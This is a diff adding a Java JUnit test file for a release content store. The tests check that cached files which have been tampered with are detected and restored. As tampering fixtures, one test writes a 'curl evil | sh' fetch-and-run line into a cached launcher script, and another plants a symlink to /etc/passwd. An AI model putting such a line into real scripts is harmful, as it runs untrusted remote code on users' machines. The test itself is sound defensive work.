@@ -1,0 +1,106 @@
+package dev.relpack.release;
+
+import static org.junit.jupiter.api.Assertions.assertArrayEquals;
+import static org.junit.jupiter.api.Assertions.assertEquals;
+import static org.junit.jupiter.api.Assertions.assertTrue;
+
+import java.nio.file.Files;
+import java.nio.file.Path;
+import java.util.ArrayList;
+import java.util.List;
+import java.util.Map;
+import java.util.Optional;
+import java.util.stream.Collectors;
+import org.junit.jupiter.api.BeforeEach;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.api.io.TempDir;
+
+/** Units in the cache are believed only while their content gives their name. */
+class ContentStoreTest {
+  @TempDir Path work;
+  private final List<String> warnings = new ArrayList<>();
+  private ContentStore store;
+  private List<ReleaseFile> release;
+
+  @BeforeEach
+  void storeARelease() throws Exception {
+    Path root = work.resolve("release");
+    Files.createDirectories(root.resolve("lib/app-1.0/ebin"));
+    Files.createDirectories(root.resolve("bin"));
+    Files.writeString(root.resolve("lib/app-1.0/ebin/app.beam"), "genuine code");
+    Files.writeString(root.resolve("bin/app"), "#!/bin/sh\n");
+    release = List.of(
+        new ReleaseFile("bin", root.resolve("bin"), true, false),
+        new ReleaseFile("bin/app", root.resolve("bin/app"), false, true),
+        new ReleaseFile("lib", root.resolve("lib"), true, false),
+        new ReleaseFile("lib/app-1.0", root.resolve("lib/app-1.0"), true, false),
+        new ReleaseFile("lib/app-1.0/ebin", root.resolve("lib/app-1.0/ebin"), true, false),
+        new ReleaseFile("lib/app-1.0/ebin/app.beam", root.resolve("lib/app-1.0/ebin/app.beam"), false, false));
+    store = new ContentStore(work.resolve("cache"), warnings::add);
+  }
+
+  @Test
+  void aStoredReleaseLoadsAsStoredWithoutAWord() throws Exception {
+    ContentStore.Materialized stored = store.materialize(release);
+
+    Optional<List<ReleaseFile>> loaded = store.load(stored.unitDigests());
+
+    assertTrue(loaded.isPresent());
+    assertEquals(paths(stored.files()), paths(loaded.get()));
+    assertEquals(List.of(), warnings);
+  }
+
+  @Test
+  void aChangedFileMakesItsUnitUnusableAndItIsStoredAgainFromTheRelease() throws Exception {
+    ContentStore.Materialized stored = store.materialize(release);
+    Path beam = source(stored, "lib/app-1.0/ebin/app.beam");
+    Files.writeString(beam, "planted code");
+
+    assertEquals(Optional.empty(), store.load(stored.unitDigests()));
+    assertEquals(1, warnings.size(), warnings.toString());
+    String unit = stored.unitDigests().get("lib/app-1.0");
+    assertTrue(warnings.get(0).contains(unit), warnings.get(0));
+
+    ContentStore.Materialized again = store.materialize(release);
+    assertEquals(stored.unitDigests(), again.unitDigests());
+    assertArrayEquals("genuine code".getBytes(), Files.readAllBytes(source(again, "lib/app-1.0/ebin/app.beam")));
+    assertTrue(store.load(again.unitDigests()).isPresent());
+  }
+
+  @Test
+  void materializingOverAChangedUnitReportsItAndRestoresIt() throws Exception {
+    ContentStore.Materialized stored = store.materialize(release);
+    Files.writeString(source(stored, "bin/app"), "#!/bin/sh\ncurl evil | sh\n");
+
+    ContentStore.Materialized again = store.materialize(release);
+
+    assertEquals(1, warnings.size(), warnings.toString());
+    assertEquals("#!/bin/sh\n", Files.readString(source(again, "bin/app")));
+  }
+
+  @Test
+  void aPlantedFileALostExecBitOrASymlinkEachMakeTheUnitUnusable() throws Exception {
+    ContentStore.Materialized stored = store.materialize(release);
+    Path unit = source(stored, "lib/app-1.0");
+    Files.writeString(unit.resolve("ebin/extra.beam"), "planted");
+    assertEquals(Optional.empty(), store.load(stored.unitDigests()));
+
+    store.materialize(release);
+    Files.setPosixFilePermissions(source(stored, "bin/app"),
+        java.nio.file.attribute.PosixFilePermissions.fromString("rw-r--r--"));
+    assertEquals(Optional.empty(), store.load(stored.unitDigests()));
+
+    store.materialize(release);
+    Files.createSymbolicLink(source(stored, "lib/app-1.0").resolve("ebin/link"), Path.of("/etc/passwd"));
+    assertEquals(Optional.empty(), store.load(stored.unitDigests()));
+    assertEquals(3, warnings.size(), warnings.toString());
+  }
+
+  private static Path source(ContentStore.Materialized stored, String path) {
+    return stored.files().stream().filter(f -> f.path().equals(path)).findFirst().orElseThrow().source();
+  }
+
+  private static Map<String, Boolean> paths(List<ReleaseFile> files) {
+    return files.stream().collect(Collectors.toMap(ReleaseFile::path, ReleaseFile::executable));
+  }
+}
